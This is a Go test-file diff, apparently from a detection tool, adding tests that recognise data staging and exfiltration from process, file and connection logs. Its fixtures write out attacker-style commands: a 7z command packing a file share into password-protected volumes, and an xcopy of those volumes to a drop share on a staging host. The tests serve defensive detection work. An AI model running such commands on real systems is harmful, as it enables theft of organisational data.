@@ -229,3 +229,39 @@ func TestManyItems(t *testing.T) {
 		t.Errorf("%d items, summary %q", len(e.Items), e.Summary)
 	}
 }
+
+// A wildcard source resolves to the files the operation wrote on its host
+// before the command, and links the copy to the archive that wrote them.
+func TestWildcardResolvedAgainstFileEvents(t *testing.T) {
+	_, e := annotate(t, nil,
+		proc("FS03", 0, `C:\x\7z.exe`, `7z a -v1g -pX C:\PerfLogs\e.7z D:\Shares\Src\`, `C:\`),
+		file("FS03", 1, `C:\x\7z.exe`, `C:\PerfLogs\e.7z.001`),
+		file("FS03", 2, `C:\x\7z.exe`, `C:\PerfLogs\e.7z.002`),
+		file("FS03", 3, `C:\Windows\System32\notepad.exe`, `C:\PerfLogs\notes.txt`),
+		proc("FS03", 5, `C:\Windows\System32\xcopy.exe`, `xcopy e.7z.* \\STAGE01\drop\ /y`, `C:\PerfLogs\`),
+	)
+	cp := find(e, result.ExposureCollected, "xcopy")
+	if cp == nil {
+		t.Fatalf("no xcopy item in %+v", e.Items)
+	}
+	if want := []string{`C:\PerfLogs\e.7z.001`, `C:\PerfLogs\e.7z.002`}; !slices.Equal(cp.Files, want) {
+		t.Errorf("files %q, want %q", cp.Files, want)
+	}
+	if cp.Volumes != 2 || cp.SizeMin != 1<<30+1 || cp.SizeMax != 2<<30 || cp.Strength != "strong" {
+		t.Errorf("xcopy item %+v: want 2 volumes of 1 GiB, (1 GiB, 2 GiB], strong", cp)
+	}
+}
+
+// A connection whose log gives the bytes sent is an exfiltration of that
+// size when it is large; a small one to an ordinary host is nothing.
+func TestLargeTransfer(t *testing.T) {
+	_, e := annotate(t, nil, det("WS1", 3, 0, nil, "Image", `C:\x\agent.exe`, "DestinationIp", "203.0.113.9", "DestinationPort", "443", "SentBytes", "734003200"))
+	if len(e.Items) != 1 || e.Items[0].SizeMin != 734003200 || e.Items[0].Strength != "medium" || e.Items[0].Destination != "203.0.113.9:443" {
+		t.Errorf("items %+v", e.Items)
+	}
+	ops := []result.Operation{{ID: "op", Detections: []int{0}}}
+	Annotate(ops, []result.Detection{det("WS1", 3, 0, nil, "Image", `C:\x\agent.exe`, "DestinationIp", "203.0.113.9", "SentBytes", "5000")}, nil)
+	if ops[0].Exposure != nil {
+		t.Errorf("a small transfer is exposure: %+v", ops[0].Exposure.Items)
+	}
+}
